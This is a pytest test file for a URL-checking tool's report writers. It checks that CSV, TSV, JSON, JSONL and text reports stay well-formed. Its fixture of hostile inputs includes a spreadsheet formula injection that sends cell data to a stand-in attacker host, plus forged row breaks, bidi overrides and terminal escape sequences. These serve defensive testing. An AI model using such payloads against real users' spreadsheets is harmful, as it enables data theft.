"""What every report keeps, whatever its format. A new member of the registry needs one line here: in `READERS`, how its
output is read back."""

from __future__ import annotations

import csv
import io
import json
import os
from collections.abc import Callable, Iterable
from typing import BinaryIO

import pytest

from urlsweep.core.model import RESULT_COLUMNS, Category, Fault, Hop, Outcome, Reason, Result, Target, http_reason
from urlsweep.core.summary import Summary
from urlsweep.reports.options import ReportOptions
from urlsweep.reports.registry import REPORTS

EVERY_FIELD = Result(
    url="http://example.org/a",
    outcome=Outcome.BROKEN,
    reason="http.404",
    status=404,
    category=Category.CLIENT_ERROR,
    detail="Not Found",
    method="GET",
    final_url="https://example.org/a",
    hops=(Hop("http://example.org/a", 301),),
    attempts=3,
    elapsed_ms=12.5,
    found_in="urls.txt:7",
    checked_at="2025-03-01T12:00:00.000Z",
    input={"name": "A", "nested": {"list": [1, None, True, 1.5]}},
)
FAULT = Fault(Outcome.BROKEN, Reason.SOURCE_TRUNCATED, "sitemap.xml ends in the middle of an element")
HOSTILE = {
    "non-BMP": "https://example.org/🙂𠜎",
    "right to left": "https://example.org/שלום/مرحبا",
    "bidi override": "https://example.org/\u202egpj.exe",
    "lone surrogate": "https://example.org/\udcff\ud800",
    "line breaks": "https://example.org/\r\nforged,row\n\u2028\x85",
    "escape sequences": "https://example.org/\x1b[2J\x9b31m\x07",
    "quotes and separators": "https://example.org/\"',;\t|",
    "formula": '=HYPERLINK("http://evil.example/?"&A1)',
    "nul": "https://example.org/\0",
    "empty": "",
    "long": "https://example.org/" + "a" * 100_000,
}


def _csv_rows(delimiter: str) -> Callable[[str], int]:
    def read(text: str) -> int:
        before = csv.field_size_limit(10_000_000)  # the process's: other tests have a view of it
        try:
            lines = list(csv.reader(io.StringIO(text, newline=""), strict=True, delimiter=delimiter))
        finally:
            csv.field_size_limit(before)
        assert lines, "a table has its header in any case"
        assert {len(line) for line in lines} == {len(lines[0])}
        assert set(RESULT_COLUMNS) <= set(lines[0])
        return len(lines) - 1

    return read


def _text_rows(text: str) -> int:
    assert text.replace("\n", "").isprintable()
    return len([line for line in text.splitlines() if line.split()[0] in set(Outcome)])


def _json_rows(text: str) -> int:
    document = json.loads(text)
    assert list(document) == ["version", "results", "summary"]
    assert document["version"] == 1
    return len(document["results"])


READERS: dict[str, Callable[[str], int]] = {
    "text": _text_rows,
    "csv": _csv_rows(","),
    "tsv": _csv_rows("\t"),
    "jsonl": lambda text: len([json.loads(line) for line in text.split("\n")[:-1]]),
    "json": _json_rows,
}
"""Format -> reads a whole report strictly and gives the number of its rows."""

ALL_ROWS = ReportOptions(verbose=1)


@pytest.fixture(params=sorted(REPORTS))
def name(request: pytest.FixtureRequest) -> str:
    """Each report's name in turn."""
    return str(request.param)


def written(name: str, rows: Iterable[Result], options: ReportOptions = ALL_ROWS, *, is_partial: bool = False) -> str:
    stream, summary = io.BytesIO(), Summary(is_partial=is_partial)
    report = REPORTS[name](stream, options)
    for row in rows:
        summary.add(row)
        report.write(row)
    report.close(summary)
    assert not stream.closed, "the stream belongs to whoever opened it"
    return stream.getvalue().decode("utf-8")


def rows_of_every_reason() -> list[Result]:
    reasons = [*map(str, Reason), http_reason(404), http_reason(503), None]
    return [
        Result(url="https://example.org/", outcome=outcome, reason=reason) for outcome in Outcome for reason in reasons
    ]


@pytest.mark.parametrize("is_partial", [False, True])
def test_a_run_without_rows_gives_a_valid_report(name: str, is_partial: bool) -> None:
    assert READERS[name](written(name, [], is_partial=is_partial)) == 0


@pytest.mark.parametrize("is_partial", [False, True])
def test_every_row_is_there_once(name: str, is_partial: bool) -> None:
    rows = [EVERY_FIELD, *rows_of_every_reason(), Result(url="http://a/", outcome=Outcome.OK)]
    assert READERS[name](written(name, rows, is_partial=is_partial)) == len(rows)


@pytest.mark.parametrize("field", ["url", "detail", "final_url", "found_in", "hop", "input key", "input value"])
@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE.keys())
@pytest.mark.parametrize("width", [None, 80])
def test_hostile_text_stays_within_its_row(name: str, field: str, text: str, width: int | None) -> None:
    changes: dict[str, dict[str, object]] = {
        "hop": {"hops": (Hop(text, 301),)},
        "input key": {"input": {text: "value"}},
        "input value": {"input": {"key": text, "list": [text]}},
    }
    row = Result(**{"url": "https://example.org/", "outcome": Outcome.DOWN, **changes.get(field, {field: text})})  # type: ignore[arg-type]  # by name
    report = written(name, [EVERY_FIELD, row, EVERY_FIELD], ReportOptions(verbose=1, width=width))
    assert READERS[name](report) == 3
    if width is not None:
        assert report.replace("\r\n", "").replace("\n", "").replace("\t", "").isprintable()


def test_a_fault_is_a_row_like_any_other(name: str) -> None:
    row = Result.of_fault(Target("sitemap.xml", "argument 1", fault=FAULT), FAULT)
    report = written(name, [row], ReportOptions())
    assert READERS[name](report) == 1
    assert "source.truncated" in report
    assert FAULT.detail in report


def test_a_row_can_be_read_at_once(name: str) -> None:
    """Each row is flushed: a reader at the other end of a pipe has it before the next one is written."""
    reading, writing = os.pipe()
    os.set_blocking(reading, False)
    with os.fdopen(reading, "rb", buffering=0) as reader, os.fdopen(writing, "wb") as stream:
        report = REPORTS[name](stream, ALL_ROWS)
        for number in range(3):
            report.write(Result(url=f"https://example.org/row-{number}", outcome=Outcome.OK))
            assert f"https://example.org/row-{number}".encode() in (reader.read() or b"")
        report.close(Summary())


def test_making_a_report_writes_nothing(name: str) -> None:
    stream = io.BytesIO()
    REPORTS[name](stream, ReportOptions(bom=True))
    assert stream.getvalue() == b""


class _BrokenPipe(io.BytesIO):
    def flush(self) -> None:
        raise BrokenPipeError


def test_a_broken_pipe_passes_up(name: str) -> None:
    report = REPORTS[name](_BrokenPipe(), ALL_ROWS)
    with pytest.raises(BrokenPipeError):
        report.write(EVERY_FIELD)


def test_a_full_disk_passes_up(name: str) -> None:
    class Full(io.BytesIO):
        def write(self, data: object) -> int:
            raise OSError(28, "No space left on device")

    stream: BinaryIO = Full()
    with pytest.raises(OSError, match="No space left"):
        REPORTS[name](stream, ALL_ROWS).write(EVERY_FIELD)


def test_every_report_can_be_read_back_here() -> None:
    assert set(READERS) == set(REPORTS)
